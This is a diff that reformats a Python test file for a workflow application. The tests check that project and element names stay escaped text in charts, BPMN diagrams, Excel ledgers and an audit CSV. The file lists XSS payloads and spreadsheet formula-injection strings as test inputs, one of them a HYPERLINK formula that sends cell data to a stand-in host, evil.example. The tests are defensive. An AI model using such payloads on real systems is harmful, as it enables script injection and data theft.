@@ -2,6 +2,7 @@
 can never become markup or spreadsheet formulas: the server-side charts and the BPMN diagram escape
 them with markupsafe (quotes included), the .xlsx ledgers store them as text, the audit CSV prefixes
 formula-looking cells with an apostrophe (OWASP "CSV Injection")."""
+
 from __future__ import annotations
 
 import csv
@@ -20,9 +21,21 @@ from workflows.models import ProcessInstance, User
 from workflows.rendering import charts
 from workflows.rendering.diagram import NS, bpmn_file_for, render_svg
 
-PAYLOADS = ['"><script>alert(1)</script>', '" onload="alert(2)', "'><svg onload=alert(3)>",
-            '<img src=x onerror=alert(4)>', '"/><g onload="alert(5)"><title>x']
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '"><script>alert(1)</script>',
+    '" onload="alert(2)',
+    "'><svg onload=alert(3)>",
+    "<img src=x onerror=alert(4)>",
+    '"/><g onload="alert(5)"><title>x',
+]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 SVG = "{http://www.w3.org/2000/svg}"
 
 
@@ -54,7 +67,9 @@ def test_model_element_names_in_the_diagram_stay_text():
     kinds = ("lane", "userTask", "exclusiveGateway", "sequenceFlow", "endEvent")
     named = []
     for kind, payload in zip(kinds, PAYLOADS, strict=True):
-        node = next(n for n in model.iterfind(f".//bpmn:{kind}", NS) if kind != "sequenceFlow" or n.get("name"))
+        node = next(
+            n for n in model.iterfind(f".//bpmn:{kind}", NS) if kind != "sequenceFlow" or n.get("name")
+        )
         node.set("name", payload)
         named.append(node)
     text = etree.tostring(model, encoding="unicode")
@@ -91,8 +106,11 @@ def test_a_formula_in_a_project_name_is_text_in_the_excel_ledger(app, client):
     login(client, "zhuren")
     with transaction() as s:
         county = s.scalar(select(User).where(User.username == "zhuren")).unit.organisation_id
-        pid = s.scalar(select(ProcessInstance.id).where(ProcessInstance.county_id == county,
-                                                        ProcessInstance.process_id == "investment_project"))
+        pid = s.scalar(
+            select(ProcessInstance.id).where(
+                ProcessInstance.county_id == county, ProcessInstance.process_id == "investment_project"
+            )
+        )
     for formula in FORMULAS:
         with transaction() as s:
             s.execute(update(ProcessInstance).where(ProcessInstance.id == pid).values(project_name=formula))
@@ -117,6 +135,8 @@ def test_a_formula_in_a_project_name_is_text_in_the_audit_csv(app, client):
         assert names == {"'" + formula}, (formula, names)
     # Ordinary names are untouched.
     with transaction() as s:
-        s.execute(update(ProcessInstance).where(ProcessInstance.id == pid).values(project_name="年产10万吨项目"))
+        s.execute(
+            update(ProcessInstance).where(ProcessInstance.id == pid).values(project_name="年产10万吨项目")
+        )
     rows = list(csv.reader(io.StringIO(client.get(url).data.decode("utf-8-sig"))))
     assert {r[3] for r in rows[1:]} == {"年产10万吨项目"}
